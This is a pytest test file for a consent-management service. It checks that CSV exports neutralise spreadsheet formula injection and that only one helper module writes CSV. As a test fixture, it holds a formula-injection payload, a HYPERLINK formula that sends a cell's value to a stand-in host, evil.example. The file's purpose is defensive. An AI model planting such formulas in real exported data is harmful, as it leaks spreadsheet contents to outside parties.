"""Every CSV the service emits is safe to open in a spreadsheet (no formula injection)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from consent.decisions.services import data_use_create
from consent.models import LegalBasis
from consent.services import purpose_create
from governance.actors import Actor
from governance.csv import csv_cell

pytestmark = pytest.mark.django_db(databases=["default", "features"])

ROOT = Path(__file__).resolve().parents[2]
# Where the service's own code lives (tests and the bench write no CSV a user opens).
SERVICE_PACKAGES = ["consent", "governance", "retention", "scripts"]
HELPER = ROOT / "governance" / "csv.py"
WRITERS = {"writer", "DictWriter"}

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def test_records_of_processing_csv_defuses_formula_cells(api):
    purpose_create(key="formula", name=HYPERLINK, legal_basis=LegalBasis.CONSENT)
    # Through the service: the API trims the tab and carriage return this test needs.
    data_use_create(
        key="formula-use",
        name=HYPERLINK,
        purpose_key="formula",
        owner="+1-555-0100",
        description="-2+3",
        data_categories=["@SUM(A1:A9)", "clicks"],
        recipients=["\tindented"],
        datasets=["\rreturn", "plain"],
        actor=Actor.system("test"),
    )
    text = api.get("/api/v1/data-uses/export", format="csv").content.decode()
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'" + HYPERLINK
    assert row["purpose_name"] == "'" + HYPERLINK
    assert row["owner"] == "'+1-555-0100"
    assert row["description"] == "'-2+3"
    assert row["data_categories"] == "'@SUM(A1:A9); clicks"
    assert row["recipients"] == "'\tindented"
    assert row["datasets"] == "'\rreturn; plain"
    # Harmless cells are written as they are.
    assert row["key"] == "formula-use" and row["purpose"] == "formula"
    # JSON is not a spreadsheet: it keeps the value as given.
    rows = api.get("/api/v1/data-uses/export", format="json").json()["records_of_processing"]
    assert rows[0]["name"] == HYPERLINK


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (-1, -1),
        (True, True),
        (None, None),
    ],
)
def test_csv_cell_prefixes_only_text_that_starts_a_formula(value, written):
    assert csv_cell(value) == written


def _csv_writer_calls(path: Path) -> list[str]:
    """`csv.writer` / `csv.DictWriter` uses in one module, however imported."""
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    aliases = {"csv"}
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            aliases |= {a.asname or a.name for a in node.names if a.name == "csv"}
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [f"from csv import {a.name}" for a in node.names if a.name in WRITERS]
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in WRITERS
            and isinstance(node.value, ast.Name)
            and node.value.id in aliases
        ):
            found.append(f"{node.value.id}.{node.attr} (line {node.lineno})")
    return found


def test_no_module_but_the_helper_writes_csv_itself():
    offenders = {}
    for package in SERVICE_PACKAGES:
        for path in sorted((ROOT / package).rglob("*.py")):
            if path == HELPER:
                continue
            if calls := _csv_writer_calls(path):
                offenders[str(path.relative_to(ROOT))] = calls
    assert offenders == {}, "write CSV with governance.csv.csv_dict_writer"
    assert _csv_writer_calls(HELPER), "the helper itself still uses the csv module"
